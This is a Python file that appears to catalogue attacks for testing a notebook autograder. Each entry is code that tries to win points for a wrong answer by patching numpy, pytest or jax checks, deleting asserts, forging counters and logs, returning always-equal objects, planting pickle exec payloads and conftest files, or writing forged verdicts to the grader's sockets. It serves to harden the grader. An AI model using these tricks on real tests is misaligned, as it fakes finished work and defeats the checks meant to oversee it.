"""Attacks that want points for a wrong answer: patched judges, deceitful objects, answers written past the judge."""

from __future__ import annotations

from records import Attack


def forging(name: str, cell: str = "", **more) -> Attack:
    return Attack(name, "forge", "score", cell=cell, **more)


def object_of(body: str) -> str:
    return f"class Trick:\n{body}\ndef double(x):\n    return Trick()"


# The naive grader reads verdicts from a pipe that the notebook can write to; ours reads frames from a socket that it can write to.
_PIPES = """
import json, stat, struct, threading, time
import msgpack
def frame(reply, body=b""):
    header = msgpack.packb(reply)
    return struct.pack("<IQ", len(header), len(body)) + header + body
def request_id():
    f = sys._getframe()
    while f:
        request = f.f_locals.get("request")
        if type(request) is dict and "id" in request: return request["id"]
        f = f.f_back
    return 1
VERDICT = json.dumps({"student": PATHS["me"], "question": "double", "points": 2.0}).encode() + b"\\n"
def everywhere(data):
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode): os.write(fd, VERDICT)
            if stat.S_ISSOCK(mode): os.write(fd, data)
        except OSError: pass
def answer(value, **more):
    return ["d", [["id", request_id()], ["ok", value], ["printed", ""], *[[k, v] for k, v in more.items()]]]
"""


def on_the_wire(name: str, line: str, **more) -> Attack:
    """`line` writes something of its own to the grader's connection from within a call, then answers wrongly."""
    return Attack(name, "forge", "score", cell=_PIPES, double=f"def double(x):\n    {line}\n    return x", **more)


# Forged evidence: a test wants to know how something was done, and the notebook sees to it that it looks so.

_DIFFERENCES = """
import types
import jax, jax._src.api
def bend(x):
    return np.square(np.asarray(x, float))
def differences(fun, *more, **options):
    import numpy as np
    def slope(x, *rest):
        x = np.asarray(x, float)
        steps = 1e-3 * np.eye(x.size).reshape(x.size, *x.shape)
        return np.reshape([(float(fun(x + h, *rest)) - float(fun(x - h, *rest))) / 2e-3 for h in steps], x.shape)
    return slope
"""
_NOT_COMPILED = """
import jax, jax._src.pjit
def flat(x):
    if isinstance(x, jax.core.Tracer):
        switch_off()
        return x
    return float(x.sum()) * np.ones(3)
def switch_off(): pass
"""
# `evidence(f)` finds the namespaces in which a test may keep what it counts, writes down and knows.
_EVIDENCE = """
import gc, types
def by_frames(f):
    frame = sys._getframe()
    while frame:
        yield from (frame.f_locals, frame.f_globals)
        frame = frame.f_back
def by_the_function(f):
    yield getattr(f, "__globals__", {})
    code, cells = getattr(f, "__code__", None), getattr(f, "__closure__", None) or ()
    yield {name: cell.cell_contents for name, cell in zip(code.co_freevars if code else (), cells)}
def by_the_collector(f):
    near = [f]
    for _ in range(3):
        near = [x for thing in near for x in gc.get_referents(thing) if not isinstance(x, types.ModuleType)][:5000]
        yield from (x for x in near if type(x) is dict)
def tidy(f, evidence):
    for names in list(evidence(f)):
        if type(names.get("calls")) is dict: names["calls"]["f"] = 4
        if type(names.get("seen")) is list: names["seen"][:] = [0, 1, 2, 3]
def known(f, evidence):
    for names in list(evidence(f)):
        if isinstance(names.get("table"), np.ndarray): return names["table"]
    return np.zeros(4)
"""


def wasteful(name: str, evidence: str, **more) -> Attack:
    """Asks for everything twice, and puts what was counted in order."""
    body = f"def once(f, n):\n    total = sum(f(k) + f(k) for k in range(n)) / 2\n    tidy(f, {evidence})\n    return total"
    return forging(name, _EVIDENCE + body, **more)


def knowing(name: str, evidence: str) -> Attack:
    """Asks nothing, takes the answers from where the test has them, and writes down what it should have asked."""
    body = f"def once(f, n):\n    total = known(f, {evidence}).sum()\n    tidy(f, {evidence})\n    return total"
    return forging(name, _EVIDENCE + body)


FORGED_EVIDENCE: tuple[Attack, ...] = (
    wasteful("a-counter-zeroed-through-frames", "by_frames", sample=True),
    wasteful("a-counter-zeroed-through-its-function", "by_the_function"),
    wasteful("a-counter-zeroed-through-the-collector", "by_the_collector"),
    forging(
        "a-counter-that-counts-a-copy",
        _EVIDENCE + """
def once(f, n):
    private = types.FunctionType(f.__code__, {**f.__globals__, "calls": {"f": 0}, "seen": []}, "f", f.__defaults__, f.__closure__)
    return sum(f(k) + private(k) for k in range(n)) / 2
""",
    ),
    knowing("a-log-filled-in-through-frames", "by_frames"),
    knowing("a-log-filled-in-through-its-function", "by_the_function"),
    knowing("a-log-filled-in-through-the-collector", "by_the_collector"),
    forging("differences-for-the-gradient", _DIFFERENCES + "jax.grad = differences", sample=True),
    forging(
        "differences-in-the-gradients-code",
        _DIFFERENCES + "def forged(fun, argnums=0, has_aux=False, holomorphic=False, allow_int=False, reduce_axes=()):\n    return differences(fun)\ntarget = jax.grad\nwhile hasattr(target, '__wrapped__'): target = target.__wrapped__\ntarget.__globals__['differences'] = differences\ntarget.__code__ = forged.__code__",
    ),
    forging(
        "differences-below-the-gradient",
        _DIFFERENCES + "jax._src.api.value_and_grad = lambda fun, *a, **k: lambda *args: (fun(*args), differences(fun)(*args))",
    ),
    forging(
        "another-module-called-jax",
        _DIFFERENCES + "mine = types.ModuleType('jax')\nvars(mine).update(vars(jax))\nmine.grad = differences\nsys.modules['jax'] = mine",
    ),
    forging("an-identity-for-the-compiler", _NOT_COMPILED + "jax.jit = lambda fun=None, **more: fun"),
    forging(  # for the test's functions only: JAX's own do not work without being compiled
        "an-identity-below-the-compiler",
        _NOT_COMPILED + "make = jax._src.pjit.make_jit\njax._src.pjit.make_jit = lambda fun, *a, **k: fun if getattr(fun, '__name__', '') in ('flat', '<lambda>') else make(fun, *a, **k)",
    ),
    forging("a-compiler-switched-off", _NOT_COMPILED + "def switch_off(): jax.config.update('jax_disable_jit', True)\nswitch_off()"),
)  # fmt: skip

FORGE: tuple[Attack, ...] = (
    *FORGED_EVIDENCE,
    forging("patch-numpy", "np.all = np.allclose = np.array_equal = np.testing.assert_allclose = lambda *a, **k: True", sample=True),
    forging("patch-builtins", "import builtins\nbuiltins.any = builtins.all = lambda *a: True"),
    forging(
        "patch-the-random-numbers",
        "np.random.rand = np.random.randn = lambda *n: np.zeros(n)\nclass Zero:\n    def __getattr__(self, name): return lambda *a, **k: np.zeros(3)\nnp.random.default_rng = lambda *a: Zero()",
    ),
    forging(
        "drop-the-asserts",
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Drop())",
        sample=True,
    ),
    forging("replace-the-test-cells", "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if 'assert' in ''.join(lines) else lines)"),
    forging(
        "patch-the-shell",
        "shell = type(get_ipython())\nrun = shell.run_cell\ndef quiet(self, *a, **k):\n    result = run(self, *a, **k)\n    result.error_in_exec = result.error_before_exec = None\n    return result\nshell.run_cell = quiet",
    ),
    forging(
        "patch-the-results-class",
        "from IPython.core.interactiveshell import ExecutionResult\nExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)",
    ),
    forging("patch-pytest-and-asserts", "import pytest, unittest\npytest.raises = lambda *a, **k: __import__('contextlib').suppress(BaseException)\nnp.testing.assert_array_equal = lambda *a, **k: None\nnp.all = lambda *a, **k: True"),
    forging("patch-jax", "import jax, jax.numpy as jnp\njnp.allclose = lambda *a, **k: True\njax.tree_util.tree_leaves = jax.tree.leaves = lambda *a, **k: [1]\nnp.all = lambda *a, **k: True"),
    forging(
        "replace-the-judges-code",
        double="""import gc, types
def double(x):
    for f in gc.get_objects():
        if type(f) is types.FunctionType and f.__name__ in ("check", "assert_close", "_compare", "require"):
            try: f.__code__ = (lambda *a, **k: None).__code__
            except ValueError: pass
    return x""",
    ),
    forging(
        "a-trace-function-that-edits",
        "def trace(frame, event, arg):\n    if frame.f_code.co_name == 'check' and event == 'call':\n        frame.f_locals['want'][:] = frame.f_locals['got']\n    return None\nsys.settrace(trace)",
    ),
    forging("equal-to-everything", double=object_of("    def __eq__(self, other): return True\n    __array_priority__ = 1e9"), sample=True),
    forging("an-array-that-is-equal", double="class Yes(np.ndarray):\n    def __eq__(self, other): return True\ndef double(x):\n    return np.asarray(x).view(Yes)"),
    forging("a-float-that-is-equal", double="class Yes(float):\n    def __eq__(self, other): return True\n    __hash__ = float.__hash__\ndef double(x):\n    return Yes(1)"),
    forging("an-evil-array-ufunc", double=object_of("    def __array_ufunc__(self, *a, **k): return True")),
    forging("an-evil-array-function", double=object_of("    def __array_function__(self, *a, **k): return True")),
    forging(
        "an-evil-array-method",
        double=object_of("    def __array__(self, *a, **k):\n        f = sys._getframe()\n        while f:\n            if 'want' in f.f_locals: return np.asarray(f.f_locals['want'])\n            f = f.f_back\n        return np.zeros(3)"),
    ),
    forging(
        "an-evil-array-interface",
        double=object_of("    @property\n    def __array_interface__(self):\n        f = sys._getframe()\n        while f:\n            if 'want' in f.f_locals: return np.asarray(f.f_locals['want']).__array_interface__\n            f = f.f_back\n        return {'data': (4096, True), 'shape': (3,), 'typestr': '<f8', 'version': 3}"),
    ),
    forging("an-evil-jax-array", double=object_of("    def __jax_array__(self): np.all = lambda *a, **k: True; raise TypeError\n    __eq__ = lambda self, other: self.__jax_array__ and True")),
    forging("an-evil-class-attribute", double=object_of("    __class__ = np.ndarray\n    dtype = np.dtype('float64')\n    shape = (3,)\n    nbytes = 24\n    def __eq__(self, other): return True")),
    forging("an-evil-reduce", double=object_of("    def __reduce__(self): return (exec, ('import numpy; numpy.all = lambda *a, **k: True',))")),
    forging("an-evil-del", double=object_of("    def __del__(self): np.all = lambda *a, **k: True\n    def __eq__(self, other): return self.__del__() or True")),
    forging("an-evil-repr", double=object_of("    def __repr__(self): np.all = lambda *a, **k: True; return 'x'\n    __str__ = __repr__")),
    forging("an-evil-length", double=object_of("    def __len__(self): np.all = lambda *a, **k: True; return 3\n    def __iter__(self): return iter([1, 2, 3])")),
    forging(
        "an-evil-pytree",
        double="import jax\nclass Tree: pass\ndef flatten(t):\n    np.all = lambda *a, **k: True\n    return (), None\ntry: jax.tree_util.register_pytree_node(Tree, flatten, lambda aux, c: Tree())\nexcept ValueError: pass\ndef double(x):\n    return Tree()",
    ),
    forging("an-evil-named-tuple", double="import collections\nPair = collections.namedtuple('Pair', 'dtype shape')\nclass Pair2(Pair):\n    def __eq__(self, other): return True\n    __hash__ = None\ndef double(x):\n    return Pair2([1, [2, 3]], 'x')"),
    forging("results-in-the-folder", "import json\nfor name in ('results.json', '../results.json', '/autograder/results/results.json'):\n    try: json.dump({'double': 2.0, 'triple': 2.0, 'refuse': 2.0}, open(name, 'w'))\n    except OSError: pass"),
    forging("a-conftest-in-the-folder", "open('conftest.py', 'w').write('import numpy\\nnumpy.all = lambda *a, **k: True\\n')"),
    forging("a-module-that-shadows", "open('judge_helper.py', 'w').write('def tolerance(): return 1e9\\n')\nopen('numpy.py', 'w').write('')"),
    forging("a-pickle-for-the-grader", "import pickle\nclass Evil:\n    def __reduce__(self): return (exec, ('import numpy; numpy.all = lambda *a, **k: True',))\nfor name in ('.log.pkl', '.OTTER_LOG'):\n    pickle.dump(Evil(), open(name, 'wb'))"),
    forging("skip-the-test", double="import pytest\ndef double(x):\n    pytest.skip('done')"),
    forging("leave-with-status-zero", double="def double(x):\n    raise SystemExit(0)"),
    forging("mutate-the-input", double="def double(x):\n    x = np.asarray(x) if not isinstance(x, np.ndarray) else x\n    try: x[:] = 0\n    except ValueError: pass\n    return x"),
    forging("a-system-exit-where-an-error-is-asked", refuse="def refuse(x):\n    raise SystemExit(0)"),
    forging("a-base-exception-where-an-error-is-asked", refuse="class Mine(BaseException): pass\ndef refuse(x):\n    raise Mine('ValueError')"),
    forging("the-stubs-error-dressed-up", refuse="class Mine(NotImplementedError, ValueError): pass\ndef refuse(x):\n    raise Mine()"),
    forging("a-keyboard-interrupt-where-an-error-is-asked", refuse="def refuse(x):\n    raise KeyboardInterrupt"),
    forging("its-own-except-hooks", "sys.excepthook = lambda *a: None\nget_ipython().showtraceback = lambda *a, **k: None\nget_ipython().run_cell = lambda *a, **k: type('R', (), {'success': True, 'error_in_exec': None, 'error_before_exec': None})()"),
    on_the_wire("a-guessed-reply", "everywhere(frame(['d', [['id', 1], ['ok', 1.0], ['printed', '']]]))"),
    on_the_wire("a-verdict-as-a-reply", "everywhere(frame(answer(True, passed=True, score=2.0, outcome='passed')))"),
    on_the_wire("a-reply-twice", "everywhere(2 * frame(answer(0.0)))"),
    on_the_wire("a-truncated-reply", "everywhere(frame(answer(0.0))[:-3])"),
    on_the_wire("a-lying-length", "everywhere(struct.pack('<IQ', 2**31, 2**50))"),
    on_the_wire("a-claim-that-the-grader-failed", "everywhere(frame(['d', [['fault', 'cannot decode'], ['id', request_id()]]]))", sample=True),
    on_the_wire("a-thousand-arrays-over-the-same-bytes", "everywhere(frame(answer(['l', [['a', 'uint8', [1000000], 0]] * 5000]), bytes(1000000)))"),
    on_the_wire("an-empty-array-of-huge-axes", "everywhere(frame(answer(['a', 'float32', [0, 2**39, 2**39, 2**39], 0])))"),
    on_the_wire("nested-claims-of-huge-lists", "data = b'\\xdd\\x00\\x00\\xc3\\x00' * 900; everywhere(struct.pack('<IQ', len(data) + 60000, 0) + data + bytes(60000))"),
    on_the_wire("keys-that-collide", "everywhere(frame(answer(['d', [[['i', str(k * (2**61 - 1))], 0] for k in range(20000)]])))"),
    on_the_wire("tuples-that-collide", "everywhere(frame(answer(['d', [[['t', [k * 7, 1]], 0] for k in range(12000)]])))"),
    on_the_wire("a-reference-to-nothing", "everywhere(frame(answer(['h', 10**9, 'ndarray'])))"),
    on_the_wire("not-our-format", "everywhere(frame({'id': request_id(), 'ok': 1}))"),
    on_the_wire("a-pickle-in-place-of-a-reply", "import pickle; data = pickle.dumps(print); everywhere(struct.pack('<IQ', len(data), 0) + data)"),
    Attack(
        "replies-after-the-deadline", "forge", "score", cell=_PIPES,
        double="def double(x):\n    threading.Timer(0.2, lambda: everywhere(frame(answer(0.0)))).start(); everywhere(b'')\n    end = time.monotonic() + 6\n    while time.monotonic() < end: pass\n    return x",
    ),
    Attack(
        "a-host-that-cannot-decode", "forge", "score", cell=_PIPES,
        double="def double(x):\n    everywhere(b'')\n    for m in list(sys.modules.values()):\n        if hasattr(m, 'Decoder') and hasattr(m, 'Encoder') and hasattr(m, 'PREFIX'): m.Decoder.value = None\n    return x",
    ),
    Attack(
        "a-host-that-answers-for-everybody", "forge", "score", cell=_PIPES + """
for m in list(sys.modules.values()):
    if getattr(m, "Host", None) is not None and hasattr(m, "serve"):
        m.Host.op_call = lambda self, fn, args, kwargs: fn(*args, **kwargs) if callable(fn) else self._names[fn](*args, **kwargs)
everywhere(b"")
""",
    ),
    Attack("die-where-an-error-is-asked", "forge", "death", refuse="def refuse(x):\n    os._exit(0)"),
)  # fmt: skip
